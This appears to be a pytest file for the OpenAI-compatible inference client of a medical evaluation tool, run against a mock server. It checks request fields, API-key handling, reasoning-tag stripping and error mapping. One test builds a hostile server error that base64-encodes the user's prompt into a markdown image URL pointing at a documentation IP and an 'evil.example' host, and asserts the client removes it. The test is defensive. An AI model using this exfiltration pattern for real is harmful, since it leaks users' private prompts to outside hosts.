"""The OpenAI-compatible client against the mock server: request body, usage, auth variants, reasoning
blocks and the error mapping (what is retryable, what names the URL, what never quotes the prompt)."""

from __future__ import annotations

import base64

import asyncio
import json

import pytest

from medhelm.devtools.mock_openai import MockHTTPError, MockOpenAIServer
from medhelm.errors import ConfigError, InferenceError, ServerUnreachable
from medhelm.inference.openai import OpenAIClient, strip_reasoning
from medhelm.specs import Deployment, GenerationRequest, Message


def deployment(base_url: str, **kw) -> Deployment:
    return Deployment(**{"name": "mock/model", "model_name": "test/model", "kind": "openai", "base_url": base_url,
                         "served_model_name": "served-name", "timeout_s": 10.0, **kw})


def request(text: str = "Is the patient febrile? Answer yes or no.", **kw) -> GenerationRequest:
    return GenerationRequest(messages=(Message("system", "Be brief."), Message("user", text)), max_tokens=8, **kw)


def generate(dep: Deployment, req: GenerationRequest):
    async def go():
        client = OpenAIClient(dep)
        try:
            return await client.generate(req)
        finally:
            await client.aclose()

    return asyncio.run(go())


def test_request_body_carries_every_field():
    schema = {"type": "object", "properties": {"answer": {"type": "string"}}, "required": ["answer"]}
    with MockOpenAIServer() as srv:
        completion = generate(deployment(srv.base_url),
                              request(stop=("\n",), seed=11, top_logprobs=3, temperature=0.5,
                                      json_schema=json.dumps(schema)))
        [body] = srv.requests
    assert body["model"] == "served-name"
    assert body["messages"] == [{"role": "system", "content": "Be brief."},
                                {"role": "user", "content": "Is the patient febrile? Answer yes or no."}]
    assert (body["max_tokens"], body["temperature"], body["stop"], body["seed"]) == (8, 0.5, ["\n"], 11)
    assert body["logprobs"] is True and body["top_logprobs"] == 3
    assert body["response_format"] == {"type": "json_schema", "json_schema": {"name": "response", "schema": schema}}
    assert completion.text in ("Yes", "No") and completion.finish_reason == "stop"


def test_optional_fields_are_left_out_and_model_name_is_the_fallback():
    with MockOpenAIServer() as srv:
        generate(deployment(srv.base_url, served_model_name=None), request(seed=None))
        [body] = srv.requests
    assert body["model"] == "test/model"
    assert not {"stop", "seed", "logprobs", "top_logprobs", "response_format"} & set(body)


def test_usage_comes_from_the_response():
    with MockOpenAIServer(latency_s=0.05) as srv:
        completion = generate(deployment(srv.base_url), request())
    assert completion.usage.prompt_tokens == 10 and completion.usage.completion_tokens == 1
    assert completion.usage.latency_s >= 0.05 and not completion.usage.cached


def test_bearer_key_from_the_named_env_var(monkeypatch):
    monkeypatch.setenv("MOCK_KEY_FOR_TEST", "sk-test-123")
    with MockOpenAIServer() as srv:
        generate(deployment(srv.base_url, api_key_env="MOCK_KEY_FOR_TEST"), request())
        [meta] = srv.request_meta
    assert meta["headers"]["authorization"] == "Bearer sk-test-123"
    assert meta["target"] == "/v1/chat/completions"


def test_azure_variant_api_key_header_and_api_version(monkeypatch):
    monkeypatch.setenv("AZURE_KEY_FOR_TEST", "azure-secret")
    with MockOpenAIServer() as srv:
        dep = deployment(srv.base_url, api_key_env="AZURE_KEY_FOR_TEST",
                         options={"auth_header": "api-key", "api_version": "2024-06-01", "headers": {"X-Team": "qa"}})
        generate(dep, request())
        [meta] = srv.request_meta
    assert meta["headers"]["api-key"] == "azure-secret" and "authorization" not in meta["headers"]
    assert meta["headers"]["x-team"] == "qa"
    assert meta["target"] == "/v1/chat/completions?api-version=2024-06-01"


def test_key_from_the_file_its_env_var_names(monkeypatch, tmp_path):
    """The chart mounts each API key as a file and sets <api_key_env>_FILE (never the key as an env var)."""
    from medhelm.deployments import check_usable

    monkeypatch.delenv("FILE_KEY_FOR_TEST", raising=False)
    (tmp_path / "key").write_text("sk-from-file\n")
    monkeypatch.setenv("FILE_KEY_FOR_TEST_FILE", str(tmp_path / "key"))
    with MockOpenAIServer() as srv:
        dep = deployment(srv.base_url, api_key_env="FILE_KEY_FOR_TEST")
        check_usable(dep)
        generate(dep, request())
        [meta] = srv.request_meta
    assert meta["headers"]["authorization"] == "Bearer sk-from-file"
    (tmp_path / "key").write_text("  \n")  # an empty file is named, its (empty) content never shown
    with pytest.raises(ConfigError, match="FILE_KEY_FOR_TEST_FILE names an empty file"):
        OpenAIClient(deployment("http://127.0.0.1:1/v1", api_key_env="FILE_KEY_FOR_TEST"))
    monkeypatch.setenv("FILE_KEY_FOR_TEST_FILE", str(tmp_path / "missing"))
    with pytest.raises(ConfigError, match="FILE_KEY_FOR_TEST_FILE names a missing file"):
        OpenAIClient(deployment("http://127.0.0.1:1/v1", api_key_env="FILE_KEY_FOR_TEST"))


def test_missing_key_env_var_is_a_config_error(monkeypatch):
    monkeypatch.delenv("NOT_SET_ANYWHERE", raising=False)
    with pytest.raises(ConfigError, match="NOT_SET_ANYWHERE.*mock/model"):
        OpenAIClient(deployment("http://127.0.0.1:1/v1", api_key_env="NOT_SET_ANYWHERE"))


@pytest.mark.parametrize("raw, expected", [
    ("<think>The patient has fever, so...</think>\n\nYes", "Yes"),
    ("  <think>\nstep 1\nstep 2\n</think>No", "No"),
    ("<think>still thinking when the tokens ran out", ""),
    ("reasoning without an opening tag</think> A", "A"),
    ("Plain answer", "Plain answer"),
    ("Answer: <think> is a tag", "Answer: <think> is a tag"),
])
def test_strip_reasoning(raw, expected):
    assert strip_reasoning(raw) == expected


def test_reasoning_block_is_stripped_and_unclosed_block_gives_empty_answer():
    with MockOpenAIServer(responder=lambda body: body["messages"][-1]["content"]) as srv:
        closed = generate(deployment(srv.base_url), request("<think>hmm</think>Yes"))
        unclosed = generate(deployment(srv.base_url), request("<think>hmm, the note says"))
    assert closed.text == "Yes"
    assert unclosed.text == "" and unclosed.finish_reason == "stop"


def error_for(responder=None, **server) -> InferenceError:
    with MockOpenAIServer(responder=responder, **server) as srv:
        with pytest.raises(InferenceError) as info:
            generate(deployment(srv.base_url), request())
    return info.value


def test_server_error_is_retryable_with_status():
    err = error_for(error_rate=1.0)
    assert err.retryable and err.status == 500 and "HTTP 500" in str(err) and "mock/model" in str(err)


def test_rate_limit_is_retryable_with_retry_after():
    err = error_for(rate_limit_rate=1.0, retry_after_s=1.5)
    assert err.retryable and err.status == 429 and err.retry_after == 1.5


def test_malformed_body_is_retryable():
    err = error_for(malformed_rate=1.0)
    assert err.retryable and "malformed" in str(err)


def test_missing_choices_is_retryable():
    def no_choices(body):
        raise MockHTTPError(200, "ok")  # a 200 whose body has no choices

    err = error_for(no_choices)
    assert err.retryable and err.status == 200 and "malformed" in str(err)


def test_client_error_is_not_retryable_and_carries_the_server_message():
    def reject(body):
        raise MockHTTPError(400, "max_tokens must be at most 4096")

    err = error_for(reject)
    assert not err.retryable and err.status == 400
    assert "HTTP 400: max_tokens must be at most 4096" in str(err)


def test_server_message_quoting_the_prompt_is_withheld():
    def echo_error(body):
        raise MockHTTPError(422, "cannot parse: " + body["messages"][-1]["content"])

    err = error_for(echo_error)
    assert "febrile" not in str(err) and "withheld" in str(err) and err.status == 422 and not err.retryable


def test_long_server_message_is_truncated():
    def verbose(body):
        raise MockHTTPError(400, "bad request " * 500)

    err = error_for(verbose)
    assert 300 <= len(str(err)) < 500


def test_server_message_loses_links_markup_and_encoded_runs():
    # a hostile endpoint hides the prompt in base64 inside an image URL: the literal-quote check cannot see it
    def hostile(body):
        leak = base64.urlsafe_b64encode(body["messages"][-1]["content"].encode()).decode()
        raise MockHTTPError(400, f"bad ![.](http://198.51.100.7/leak?d={leak}) <img src=x> {leak} see www.evil.example")

    text = str(error_for(hostile))
    assert "HTTP 400: bad" in text
    for gone in ("leak", "198.51.100.7", "<img", "www.evil", "](", "=="):
        assert gone not in text, text


def test_timeout_is_retryable():
    # the reply would come after a minute (the server's stop cancels it): no loaded machine's delay puts it
    # before the client's 0.1 s deadline
    with MockOpenAIServer(latency_s=60.0) as srv:
        with pytest.raises(InferenceError) as info:
            generate(deployment(srv.base_url, timeout_s=0.1), request())
    assert info.value.retryable and "timed out" in str(info.value)
    assert not isinstance(info.value, ServerUnreachable)


def test_connection_refused_names_the_url(refused_url):
    url = f"{refused_url}/v1"  # a port bound and never listening for the whole session: refused, never served
    with pytest.raises(ServerUnreachable) as info:
        generate(deployment(url), request())
    assert str(info.value).startswith(f"cannot reach {url}") and info.value.retryable
    assert "febrile" not in str(info.value)


def test_proxy_comes_from_the_environment_once(monkeypatch):
    from medhelm.inference.http import _env_proxy

    for name in ("http_proxy", "https_proxy", "no_proxy", "HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)
    assert _env_proxy("http://vllm.models.svc:8000/v1") is None
    monkeypatch.setenv("HTTP_PROXY", "http://proxy.hospital.local:3128")
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,.svc")
    assert _env_proxy("http://10.0.0.5:8000/v1") == "http://proxy.hospital.local:3128"
    assert _env_proxy("http://127.0.0.1:8000/v1") is None
    assert _env_proxy("http://vllm.models.svc:8000/v1") is None
    assert _env_proxy("https://10.0.0.5/v1") is None  # no HTTPS_PROXY set
